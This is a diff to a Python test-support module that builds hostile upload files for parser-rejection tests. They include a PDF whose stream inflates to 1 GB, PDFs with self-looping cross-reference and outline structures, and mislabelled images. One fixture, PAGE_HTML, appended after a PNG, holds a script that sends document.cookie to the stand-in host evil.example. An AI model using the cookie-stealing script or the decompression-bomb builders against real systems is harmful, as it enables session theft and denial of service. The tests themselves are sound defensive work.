@@ -1,22 +1,28 @@
 """Files built to hurt a parser, shared by the core and web tests of hostile uploads: a Word
 zip bomb, a Word file whose zip lies about its sizes, "billion laughs" in a Word part, the
-three hostile PDFs of issue #33, and calendars far bigger than any term-dates file."""
+hostile PDFs of issues #33 and #40 (one whose stream inflates to 1 GB, an endless
+cross-reference chain, a looping outline), files that are not what they say (issue #40: a PNG
+with a web page after it, a JPEG named .png...) and calendars far bigger than any term-dates
+file."""
 
 from __future__ import annotations
 
 import io
 import struct
 import zipfile
+import zlib
 
 from bot.demo.documents import code_of_conduct_docx
 from tests.support.pdfs import pdf_document, raw_pdf
 
 __all__ = [
+    "DISGUISED",
     "HOSTILE_PDFS",
     "MARK",
     "MB",
     "billion_laughs_docx",
     "declared_size",
+    "deflated_zeros",
     "huge_ics",
     "zip_of_zeros",
 ]
@@ -81,6 +87,36 @@ def billion_laughs_docx() -> bytes:
     return out.getvalue()
 
 
+def deflated_zeros(size: int) -> bytes:
+    """A zlib stream of ``size`` zero bytes (whole MBs), ~1000:1, built in milliseconds: after a
+    full flush each further MB compresses to the same bytes, so one is repeated; the checksum
+    of n zeros is (n mod 65521) << 16 | 1."""
+    deflate = zlib.compressobj(9)
+    first = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
+    again = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
+    end = deflate.flush()[:-4] + struct.pack(">I", ((size % 65521) << 16) | 1)
+    return first + again * (size // MB - 1) + end
+
+
+def _with_trailer_entry(pdf: bytes, entry: bytes) -> bytes:
+    """``pdf`` with ``entry`` added to its trailer (``%d`` in it is the xref's own offset)."""
+    xref = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
+    return pdf.replace(b"/Root 1 0 R >>", b"/Root 1 0 R " + entry % xref + b" >>")
+
+
+def _inflating_pdf(size: int) -> bytes:
+    """A one-page PDF whose content stream inflates to ``size`` bytes (1 GB: ~1 MB file)."""
+    zeros = deflated_zeros(size)
+    return raw_pdf(
+        CATALOG,
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
+        b"<< /Length %d /Filter /FlateDecode " % len(zeros) + MARK + b" 1 >>\nstream\n"
+        + zeros
+        + b"\nendstream",
+    )
+
+
 HOSTILE_PDFS = {
     "nested": (
         pdf_document(b"", b"<< " + MARK + b" " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_001),
@@ -101,6 +137,67 @@ HOSTILE_PDFS = {
             b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 " + MARK + b" 1 >>",
         ),
         "could not be read",
+    ),
+    # issue #40: accepted as report attachments until then
+    "inflating": (_inflating_pdf(1024 * MB), "expands to more than 50 MB when it is opened"),
+    "xref-loop": (  # the trailer's /Prev is the cross-reference table itself: a reader that
+        # follows it reads the same table for ever
+        _with_trailer_entry(pdf_document(), b"/Prev %d " + MARK + b" 1"),
+        "has a structure that loops back on itself",
+    ),
+    "picture-inflating": (  # a 100 × 100 grey picture whose data inflates to 1 GB
+        _inflating_pdf(1024 * MB).replace(
+            b"/Filter /FlateDecode",
+            b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray "
+            b"/BitsPerComponent 8 /Filter /FlateDecode",
+        ),
+        "has a picture whose data is far larger than the picture",
+    ),
+    "outline-loop": (  # two bookmarks, each the other's next
+        pdf_document(
+            b"/Outlines 4 0 R",
+            b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
+            b"<< /Title (One) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] " + MARK + b" 1 >>",
+            b"<< /Title (Two) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R /Dest [3 0 R /Fit] >>",
+        ),
+        "has a structure that loops back on itself",
+    ),
+}
+
+
+def _image(kind: str) -> bytes:
+    """A small real photo (JPEG) or image (PNG), as Pillow writes them."""
+    from PIL import Image  # lazy: only the tests that build images pay for Pillow
+
+    out = io.BytesIO()
+    Image.new("RGB", (40, 30), (30, 90, 160)).save(out, kind)
+    return out.getvalue()
+
+
+PAGE_HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie" \
+    b"</script></body></html>"
+# files whose bytes are not what they say (name, declared type), or that are also something
+# else: (file name, bytes, the type a browser declares, what the refusal says)
+DISGUISED = {
+    "html-after-png": (
+        "evidence.png", _image("PNG") + PAGE_HTML, "image/png",
+        "this image has web page or script code inside it",
+    ),
+    "zip-after-jpeg": (
+        "photo.jpg", _image("JPEG") + zip_of_zeros(MB), "image/jpeg",
+        "bytes of something else after the picture",
+    ),
+    "jpeg-named-png": (
+        "screenshot.png", _image("JPEG"), "image/png",
+        "its name ends in .png, but the file is a JPEG photo",
+    ),
+    "pdf-sent-as-a-page": (
+        "notes.pdf", pdf_document(), "text/html",
+        "it was sent as a web page, but the file is a PDF",
+    ),
+    "png-named-html": (
+        "page.html", _image("PNG"), "text/html",
+        "its name ends in .html, but the file is a PNG image",
     ),
 }
 
